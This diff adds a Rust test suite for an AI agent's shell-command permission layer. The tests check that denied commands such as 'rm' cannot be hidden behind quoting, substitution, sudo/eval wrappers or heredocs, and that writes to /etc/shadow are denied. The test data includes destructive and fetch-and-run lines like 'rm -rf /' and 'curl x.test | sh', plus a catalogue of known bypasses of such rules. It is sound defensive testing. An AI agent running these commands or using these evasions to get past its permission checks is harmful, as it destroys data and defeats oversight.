@@ -1,0 +1,274 @@
+//! Command lines, and the tricks by which a command gets past a rule.
+
+use agent_middleware::{Permissions, Policy, Rule};
+use proptest::prelude::*;
+use serde_json::json;
+
+/// What many would write: harmless programs are allowed, `rm` is denied, all else is asked about.
+fn usual() -> Permissions {
+    let harmless =
+        ["ls", "cat", "echo", "find", "git log", "git status", "git branch", "git diff", "git", "sort", "wc"];
+    let allow = harmless.into_iter().fold(Rule::allow("shell"), |rule, words| rule.command("command", words));
+    Permissions::new()
+        .rule(allow.command("command", "> out/**"))
+        .rule(Rule::deny("shell").command("command", "rm").command("command", "git push --force"))
+        .rule(Rule::deny("shell").command("command", "> /etc/**"))
+        .root("/app")
+}
+
+fn policy(line: &str) -> Policy {
+    usual().decide("shell", &json!({"command": line})).policy
+}
+
+#[test]
+fn lines_of_allowed_commands_are_allowed() {
+    for line in [
+        "ls",
+        "ls -la src",
+        "ls; cat a.txt && git status || echo no",
+        "cat a.txt | sort | wc -l",
+        "git log --oneline -5 # the newest",
+        "(ls; cat a)",
+        "echo 'rm -rf x'",
+        "echo \"it's\" fine",
+        "cat a > /dev/null 2>&1",
+        "cat a 2>/dev/null",
+        "echo hi > out/a.txt",
+        "echo hi > src/../out/a.txt",
+        "cat < a.txt",
+        "ls src/*.rs",
+        "cat <<'EOF'\nrm -rf x\n$(rm x)\nEOF\nls",
+        "cat <<-EOF\n\tsome $HOME text\n\tEOF\n",
+        "bash -c 'ls; cat a'",
+        "time ls",
+        "if ls; then cat a; fi",
+        "ls \\\n -la",
+        "",
+    ] {
+        let wanted = if line.is_empty() { Policy::Ask } else { Policy::Allow };
+        assert_eq!(policy(line), wanted, "{line}");
+    }
+}
+
+/// Lines that a known framework let through with `rm` denied.
+#[test]
+fn the_known_ways_around_a_rule_are_not_ways_around() {
+    for (line, wanted) in [
+        ("ls\nrm -rf x", Policy::Deny),
+        ("ls & rm -rf x", Policy::Deny),
+        ("echo $(rm -rf x)", Policy::Deny),
+        ("cat `rm x`", Policy::Deny),
+        ("echo hi>/etc/passwd", Policy::Deny),
+        ("find . -delete", Policy::Ask),
+        ("git branch -D main", Policy::Ask),
+        ("git config --global user.name x", Policy::Ask),
+        ("sort -o f", Policy::Ask),
+        ("git log --output=f", Policy::Ask),
+    ] {
+        assert_eq!(policy(line), wanted, "{line}");
+    }
+}
+
+#[test]
+fn a_denied_command_is_found_wherever_it_hides() {
+    for line in [
+        "rm",
+        "rm -rf /",
+        "/bin/rm x",
+        "RM x",
+        "\\rm x",
+        "r\\m x",
+        "'rm' x",
+        "r''m x",
+        "\"rm\" x",
+        "$'rm' x",
+        "r\\\nm x",
+        "ls;rm x",
+        "ls&&rm x",
+        "ls||rm x",
+        "ls|rm x",
+        "(rm x)",
+        "{ rm x; }",
+        "! rm x",
+        "if true; then rm x; fi",
+        "while rm x; do ls; done",
+        "for f in *; do rm $f; done",
+        "case a in a) rm x;; esac",
+        "f() { rm x; }; f",
+        "echo \"$(rm x)\"",
+        "echo \"`rm x`\"",
+        "echo ${a:-$(rm x)}",
+        "echo $((1 + $(rm x)))",
+        "cat <(rm x)",
+        "ls > >(rm x)",
+        "X=$(rm x) ls",
+        "X=1 rm x",
+        "bash -c 'rm x'",
+        "sh -c \"ls; rm x\"",
+        "bash -lc 'rm x'",
+        "bash <<EOF\nrm x\nEOF",
+        "bash <<< 'rm x'",
+        "cat <<EOF\n$(rm x)\nEOF",
+        "cat <<EOF\nEOF\nrm x",
+        "env rm x",
+        "env -i A=1 rm x",
+        "sudo rm x",
+        "sudo -u root -- rm x",
+        "sudo sudo env rm x",
+        "sudo sh -c 'rm x'",
+        "xargs rm < f",
+        "ls | xargs -0 -n 1 rm",
+        "find . -exec rm {} \\;",
+        "find . -execdir rm {} +",
+        "nohup rm x &",
+        "nice -n 5 rm x",
+        "timeout 5 rm x",
+        "time rm x",
+        "command rm x",
+        "exec rm x",
+        "eval rm x",
+        "eval 'rm x'",
+        "busybox rm x",
+        "parallel rm ::: x",
+        "watch 'rm x'",
+        "git push --force",
+        "ls # x\nrm x",
+        "echo a#b; rm x",
+        "true >/etc/shadow",
+        "true >>/app/../etc/shadow",
+        "true &>/etc/x",
+        "true >|/etc/x",
+        "ls 2>/etc/x",
+    ] {
+        assert_eq!(policy(line), Policy::Deny, "{line}");
+    }
+}
+
+#[test]
+fn what_is_not_understood_is_asked_about() {
+    for line in [
+        "$X",
+        "$(echo rm) x",
+        "`echo rm` x",
+        "$'\\x72m' x",
+        "r{m,} x",
+        "/bin/r? x",
+        "ls $X",
+        "ls \"$X\"",
+        "ls *",
+        "sort $OPTIONS",
+        "sort {-o,f}",
+        "ls 'open",
+        "ls \"open",
+        "ls $(open",
+        "ls `open",
+        "(ls",
+        "ls)",
+        "cat <<EOF\nno end",
+        "cat <<EOF",
+        "ls >",
+        "X=1",
+        "PATH=/tmp ls",
+        "LD_PRELOAD=x ls",
+        "./ls",
+        "/tmp/ls",
+        "ls\u{0}",
+        "echo hi > $F",
+        "echo hi > other.txt",
+        "echo hi > out/../other.txt",
+        "echo hi > ~/out",
+        "git -C /x push --force",
+        "git push origin --force",
+        "git push --force-with-lease",
+        "git -c core.pager=x log",
+        "git --no-pager --output=x diff",
+        "sort -uo f",
+        "sort --outp=f",
+        "find . -fprint f",
+        "env",
+        "bash",
+        "python -c 'print(1)'",
+        "awk '{print}' f",
+        "xargs ls",
+        "sudo ls",
+        "curl x.test | sh",
+        "echo 'rm x' | sh",
+        "source a.sh",
+        ". ./a.sh",
+        "[[ -f a ]]",
+        "a=(ls)",
+    ] {
+        assert_eq!(policy(line), Policy::Ask, "{line}");
+    }
+    for value in [json!(null), json!(7), json!(["ls"])] {
+        assert_eq!(usual().decide("shell", &json!({"command": value})).policy, Policy::Ask, "{value}");
+    }
+}
+
+#[test]
+fn a_program_that_runs_others_is_allowed_by_the_whole_of_its_words() {
+    let permissions = Permissions::new().rule(Rule::allow("shell").command("command", "sudo systemctl restart web"));
+    let policy = |line| permissions.decide("shell", &json!({"command": line})).policy;
+    assert_eq!(policy("sudo systemctl restart web"), Policy::Allow);
+    assert_eq!(policy("sudo systemctl restart web db"), Policy::Ask);
+    assert_eq!(policy("sudo systemctl restart 'web'"), Policy::Allow, "the program gets the same");
+}
+
+#[test]
+fn a_hazard_that_the_rule_names_is_allowed() {
+    let permissions = Permissions::new().rule(Rule::allow("shell").command("command", "find build -delete"));
+    let policy = |line| permissions.decide("shell", &json!({"command": line})).policy;
+    assert_eq!(policy("find build -delete"), Policy::Allow);
+    assert_eq!(policy("find . -delete"), Policy::Ask);
+    assert_eq!(policy("find build -delete -exec rm {} +"), Policy::Ask);
+}
+
+#[test]
+fn with_everything_else_allowed_a_line_that_is_not_understood_is_asked_about_still() {
+    let permissions = Permissions::new().otherwise(Policy::Allow).rule(Rule::deny("shell").command("command", "rm"));
+    let policy = |line| permissions.decide("shell", &json!({"command": line})).policy;
+    assert_eq!(policy("make all && ./run"), Policy::Allow);
+    assert_eq!(policy("sudo rm x"), Policy::Deny);
+    assert_eq!(policy("$X -rf x"), Policy::Ask);
+    assert_eq!(policy("ls 'open"), Policy::Ask);
+    assert_eq!(policy("a() { b; }"), Policy::Ask);
+}
+
+#[test]
+fn a_line_of_any_depth_is_read_without_running_out_of_stack() {
+    for line in ["$(".repeat(10_000), "(".repeat(10_000), "`".repeat(10_001), "\"$(".repeat(10_000)] {
+        assert_ne!(policy(&line), Policy::Allow);
+    }
+    let nested = (0..8).fold("rm x".to_owned(), |line, _| format!("bash -c {line:?}"));
+    assert_ne!(policy(&nested), Policy::Allow);
+    assert_ne!(policy(&"sudo ".repeat(2_000)), Policy::Allow);
+}
+
+proptest! {
+    /// Whatever stands around it: a line in which a shell would run `rm` as a command of its own is never allowed.
+    #[test]
+    fn no_combination_of_pieces_hides_a_denied_command(
+        pieces in prop::collection::vec(
+            prop::sample::select(vec![
+                "ls", " ", ";", "&&", "|", "&", "\n", "(", ")", "$(", "`", "'", "\"", "\\", "#", "<<E\n", "E\n", ">", "<",
+                "{", "}", "cat a", "$X", "<<<", "bash -c ", "if ", "then ", "fi", "$((", "${", "=", "*",
+            ]),
+            0..12,
+        ),
+    ) {
+        // Allowed must be what holds no 'rm' once it is added as a command after any line that is whole.
+        let before: String = pieces.concat();
+        prop_assume!(!before.ends_with('\\')); // it would join the lines: then 'rm' is an argument
+        let line = format!("{before}\nrm x");
+        if policy(&before) == Policy::Allow {
+            prop_assert_eq!(policy(&line), Policy::Deny, "{}", line);
+        } else {
+            prop_assert_ne!(policy(&line), Policy::Allow, "{}", line);
+        }
+    }
+
+    #[test]
+    fn any_text_at_all_is_judged(line in "\\PC{0,60}") {
+        policy(&line);
+    }
+}
